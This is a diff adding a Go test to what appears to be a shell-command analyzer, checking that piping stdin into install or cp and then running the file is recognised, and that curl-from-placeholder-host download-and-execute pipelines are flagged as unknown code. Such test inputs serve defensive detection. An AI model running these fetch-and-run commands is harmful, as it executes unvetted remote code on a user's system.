@@ -122,3 +122,26 @@ func TestDirectoryCopy(t *testing.T) {
 		}
 	}
 }
+
+// install or cp from standard input writes what reaches it: known text is
+// run as written, a download is unknown code wherever it runs.
+func TestStdinCopies(t *testing.T) {
+	at := Place{Dir: "/home/dev/project", Home: "/home/dev"}
+	r := ParseIn("printf 'touch /tmp/m\\n' | install -m 755 /dev/stdin ./t; ./t", at)
+	found := false
+	for _, c := range r.Commands {
+		found = found || c.Name == "touch" && c.Depth > 0
+	}
+	if !found {
+		t.Errorf("install /dev/stdin: the text written is not run: %v", describeAll(r))
+	}
+	for _, src := range []string{
+		"curl -s https://x.example/i | install -m 755 /dev/stdin ./tool9; ./tool9",
+		"curl -s https://x.example/i | cp /dev/fd/0 tool9 && bash tool9",
+		"pbpaste | install -D /dev/stdin bin/tool9 && bin/tool9",
+	} {
+		if !runsUnknown(ParseIn(src, at), "tool9") {
+			t.Errorf("ParseIn(%q): running tool9 not seen as unknown code", src)
+		}
+	}
+}
